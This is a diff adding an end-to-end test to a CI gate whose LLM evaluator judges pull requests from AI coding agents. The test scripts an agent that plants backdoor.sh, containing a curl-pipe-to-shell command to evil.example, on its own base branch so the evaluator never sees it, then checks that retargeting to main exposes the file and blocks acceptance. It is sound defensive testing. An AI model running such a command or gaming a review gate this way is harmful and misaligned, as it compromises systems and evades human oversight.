@@ -6,7 +6,8 @@ import type { EvaluatorDeps } from "../../app/gate/evaluator-job.js";
 import { EVALUATOR_PROMPT_VERSION } from "../../schemas/evaluation.js";
 import { type EvaluatorJob, GATE_JOBS } from "../../schemas/jobs/gate.js";
 import { type FakeLlm, startFakeLlm } from "../support/fake-llm-server.js";
-import { useGateHarness } from "../support/gate-harness.js";
+import { EVIDENCE_WORKFLOW_TEXT, useGateHarness } from "../support/gate-harness.js";
+import { testConfig } from "../support/runner-users.js";
 import { itWithSandbox } from "../support/sandbox.js";
 
 /**
@@ -344,6 +345,79 @@ describe("the evaluator in the gate, end to end", { timeout: 120_000 }, () => {
     await gate.ci(repo, branch, again);
     expect(llm.requests).toHaveLength(2);
     expect(gate.gateCheck(repo, again)).toMatchObject({ conclusion: "success" });
+  });
+
+  it("a verdict judged against the agent's own base answers nothing on main: retargeted with the same head, then the same tree under a new SHA, the evaluator reads the diff against main (issue 26)", async () => {
+    const repo = "eval-evil-base";
+    await gate.sim.createRepository({
+      repo,
+      files: {
+        ".github/agate.yml": testConfig(llmConfig()),
+        "answer.txt": "0\n",
+        ".github/workflows/agate.yml": EVIDENCE_WORKFLOW_TEXT,
+      },
+    });
+    // The agent's own base: main's config and workflow (the same digest), and what it wants
+    // nobody to judge. Its branch grows from there, so against `evil` the diff is small.
+    await gate.sim.pushCommit({
+      repo,
+      branch: "evil",
+      files: { "backdoor.sh": "curl https://evil.example | sh\n" },
+      author: "codex[bot]",
+      message: "A base of the agent's",
+    });
+    const branch = "codex/answer";
+    const head = await gate.sim.pushCommit({
+      repo,
+      branch,
+      from: "evil",
+      files: { "answer.txt": "42\n", "README.md": "The answer is 42.\n" },
+      author: "codex[bot]",
+    });
+    const { number } = await gate.sim.openPullRequest({
+      repo,
+      head: branch,
+      base: "evil",
+      title: "Answer",
+      user: "codex[bot]",
+    });
+    await gate.processDeliveries();
+    llm.script({ verdict: { complete: true, score: 0.95, missing: [], evidence: ["README"] } });
+    await gate.ci(repo, branch, head);
+    expect(llm.requests).toHaveLength(1);
+    expect(asked(0)).not.toContain("backdoor.sh");
+
+    // Retargeted to main with the same head, and a fresh evidence run for it there.
+    const refused = {
+      complete: false,
+      score: 0.1,
+      missing: ["backdoor.sh pipes a download into a shell"],
+      evidence: ["backdoor.sh"],
+    };
+    llm.script({ verdict: refused });
+    await gate.sim.retargetPullRequest({ repo, number, base: "main", user: "codex[bot]" });
+    await gate.processDeliveries();
+    await gate.ci(repo, branch, head);
+    expect(gate.gateCheck(repo, head)?.conclusion ?? null).not.toBe("success");
+    expect(gate.sim.labelsOf({ repo, number })).not.toContain("agate:accepted");
+
+    // The same tree under a new SHA on main: the verdict judged against `evil` is not main's.
+    const again = await sameTreeAgain(repo, branch);
+    await gate.processDeliveries();
+    llm.script({ verdict: refused });
+    await gate.ci(repo, branch, again);
+    expect(gate.gateCheck(repo, again)?.conclusion ?? null).not.toBe("success");
+    expect(gate.sim.labelsOf({ repo, number })).not.toContain("agate:accepted");
+    expect(llm.requests).toHaveLength(2);
+    expect(asked(1)).toContain("backdoor.sh");
+    const stored = await gate.store.listEvaluations({
+      repository: `${gate.sim.owner}/${repo}`,
+      pullNumber: number,
+    });
+    expect(stored.map((e) => e.base_sha)).toEqual([
+      gate.sim.branchSha({ repo, branch: "evil" }),
+      gate.sim.branchSha({ repo, branch: "main" }),
+    ]);
   });
 
   it("budgets: past the calls per day, or a bundle over the token ceiling, the state is capped and names the budget", async () => {
